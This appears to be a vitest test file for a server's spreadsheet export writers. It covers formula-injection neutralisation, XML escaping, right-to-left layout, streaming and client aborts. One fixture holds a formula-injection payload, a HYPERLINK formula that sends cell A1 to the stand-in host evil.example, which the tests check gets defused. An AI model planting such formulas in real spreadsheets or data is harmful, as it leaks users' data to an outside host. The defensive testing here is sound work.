// @vitest-environment jsdom
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ExportAborted, type ExportColumn, type ExportRow } from '../../server/lib/export/common';
import { neutraliseCell } from '../../server/lib/export/neutralise';
import { escapeXml, writeXls } from '../../server/lib/export/xls';
import { writeXlsx, type XlsxOptions } from '../../server/lib/export/xlsx';

const columns: ExportColumn[] = [
  { key: 'serial', header: 'Serial' },
  { key: 'note', header: 'Notes' },
  { key: 'amount', header: 'Amount' },
  { key: 'paid', header: 'Paid' },
  { key: 'extra', header: '=Header' },
];

const rows: ExportRow[] = [
  { serial: '20250001', note: '=HYPERLINK("http://evil.example/?x="&A1,"click")', amount: -2, paid: true, extra: '+1' },
  { serial: '20250002', note: '-2', amount: 250.5, paid: false, extra: '@x' },
  { serial: '20250003', note: '\tx', amount: 0, paid: null, extra: '\rx' },
];

const expectedNotes = [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'-2", "'\tx"];
const expectedExtra = ["'+1", "'@x", "'\rx"];

async function* source(list: readonly ExportRow[]): AsyncGenerator<ExportRow> {
  for (const row of list) yield row;
}

/** Runs a writer into memory and returns the row count and the bytes. */
async function capture(write: typeof writeXlsx, list: readonly ExportRow[], options: XlsxOptions = {}) {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => out.on('end', resolve));
  const count = await write(out, columns, source(list), options);
  await ended;
  return { count, bytes: Buffer.concat(chunks) };
}

describe('neutraliseCell', () => {
  it('prefixes text that a spreadsheet would run as a formula, and nothing else', () => {
    for (const risky of ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseCell(risky)).toBe(`'${risky}`);
    for (const plain of ['20250001', 'Nasr City', ' =x', '', "'quoted", 'a=b', '\nx']) expect(neutraliseCell(plain)).toBe(plain);
    expect(neutraliseCell(-2)).toBe(-2);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell(false)).toBe(false);
    expect(neutraliseCell(null)).toBeNull();
  });
});

describe('writeXlsx', () => {
  it('writes a header row and neutralised text that an xlsx reader reads back', async () => {
    const { count, bytes } = await capture(writeXlsx, rows);
    expect(count).toBe(3);
    expect(bytes.subarray(0, 2).toString()).toBe('PK');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(4);
    const values = (index: number) => columns.map((_, column) => sheet.getRow(index).getCell(column + 1).value);
    expect(values(1)).toEqual(['Serial', 'Notes', 'Amount', 'Paid', "'=Header"]);
    expect(values(2)).toEqual(['20250001', expectedNotes[0], -2, true, expectedExtra[0]]);
    expect(values(3)).toEqual(['20250002', expectedNotes[1], 250.5, false, expectedExtra[1]]);
    // Line breaks and tabs travel as character references, so even a carriage return reads back as written.
    expect(values(4)).toEqual(['20250003', expectedNotes[2], 0, null, expectedExtra[2]]);
    for (let index = 2; index <= 4; index++) expect(sheet.getRow(index).getCell(2).type).toBe(ExcelJS.ValueType.String);
  });

  it('shows the header in bold and keeps it in view, reading right to left when asked', async () => {
    const read = async (rightToLeft: boolean) => {
      const { bytes } = await capture(writeXlsx, rows, { sheetName: 'Orders', rightToLeft });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength));
      return workbook.getWorksheet('Orders')!;
    };
    const arabic = await read(true);
    expect(arabic.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(arabic.getRow(2).getCell(1).font?.bold).toBeFalsy();
    expect(arabic.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, rightToLeft: true });
    expect((await read(false)).views[0]?.rightToLeft).toBeFalsy();
  });
});

describe('writeXls', () => {
  it('writes well-formed SpreadsheetML with the escaped, neutralised values', async () => {
    const { count, bytes } = await capture(writeXls, [...rows, { serial: '<b>&"\'', note: 'سطر\nثان', amount: 1e21, paid: true, extra: 'a\u0001b' }]);
    expect(count).toBe(4);
    const text = bytes.toString('utf8');
    expect(text).toContain('<?mso-application progid="Excel.Sheet"?>');
    expect(text).toContain('&lt;b&gt;&amp;&quot;&apos;');
    const doc = new DOMParser().parseFromString(text, 'application/xml');
    expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
    const tableRows = [...doc.getElementsByTagName('Row')];
    expect(tableRows).toHaveLength(5);
    const cells = (index: number) => [...tableRows[index]!.getElementsByTagName('Cell')].map((cell) => cell.textContent);
    expect(cells(0)).toEqual(['Serial', 'Notes', 'Amount', 'Paid', "'=Header"]);
    expect(cells(1)).toEqual(['20250001', expectedNotes[0], '-2', '1', expectedExtra[0]]);
    expect(cells(2)).toEqual(['20250002', expectedNotes[1], '250.5', '0', expectedExtra[1]]);
    expect(cells(3)).toEqual(['20250003', expectedNotes[2], '0', '', expectedExtra[2]]);
    expect(cells(4)).toEqual(['<b>&"\'', 'سطر\nثان', '1e+21', '1', 'ab']);
    const types = [...tableRows[1]!.getElementsByTagName('Data')].map((data) => data.getAttribute('ss:Type'));
    expect(types).toEqual(['String', 'String', 'Number', 'Boolean', 'String']);
  });

  it('reads right to left when asked', async () => {
    const text = (await capture(writeXls, rows, { rightToLeft: true })).bytes.toString('utf8');
    expect(text).toContain('<DisplayRightToLeft/>');
    expect((await capture(writeXls, rows)).bytes.toString('utf8')).not.toContain('DisplayRightToLeft');
  });

  it('escapes text for XML, keeping tabs and line breaks as character references', () => {
    expect(escapeXml('a<b>&"\'\t\r\n\u0000\uFFFF😀')).toBe('a&lt;b&gt;&amp;&quot;&apos;&#9;&#13;&#10;😀');
    expect(escapeXml('\uD800x')).toBe('x');
  });
});

describe('both writers', () => {
  it.each([
    ['xlsx', writeXlsx],
    ['xls', writeXls],
  ] as const)('%s sends bytes while rows are still being read', async (_name, write) => {
    const empty = new PassThrough();
    let emptySize = 0;
    empty.on('data', (chunk: Buffer) => (emptySize += chunk.length));
    await write(empty, columns, source([]));
    const many = Array.from({ length: 6000 }, (_, index) => ({
      serial: String(20250000 + index),
      note: 'ring twice before coming up',
      amount: index,
      paid: true,
      extra: 'x',
    }));
    let received = 0;
    const out = new PassThrough();
    out.on('data', (chunk: Buffer) => (received += chunk.length));
    /** Resolves once more than a whole empty file has gone out: only rows already written can be the rest. */
    const rowsSent = () =>
      new Promise<void>((resolve) => {
        const check = () => {
          if (received <= emptySize) return;
          out.off('data', check);
          resolve();
        };
        out.on('data', check);
        check();
      });
    // The source holds back its second half until the first half has reached the client: a writer that kept
    // rows until the end would never send them, and the export would never finish.
    async function* heldBack(): AsyncGenerator<ExportRow> {
      for (const [index, row] of many.entries()) {
        if (index === many.length / 2) await rowsSent();
        yield row;
      }
    }
    expect(await write(out, columns, heldBack())).toBe(6000);
  });

  it.each([
    ['xlsx', writeXlsx],
    ['xls', writeXls],
  ] as const)('%s stops reading rows once the client has gone', async (_name, write) => {
    let read = 0;
    let closed = false;
    const out = new PassThrough();
    out.resume();
    async function* endless(): AsyncGenerator<ExportRow> {
      try {
        for (;;) {
          read++;
          if (read === 2000) out.destroy();
          yield { serial: String(read), note: 'x', amount: read, paid: false, extra: null };
        }
      } finally {
        closed = true;
      }
    }
    await expect(write(out, columns, endless())).rejects.toBeInstanceOf(ExportAborted);
    expect(closed).toBe(true);
    expect(read).toBeLessThan(2500);
  });
});
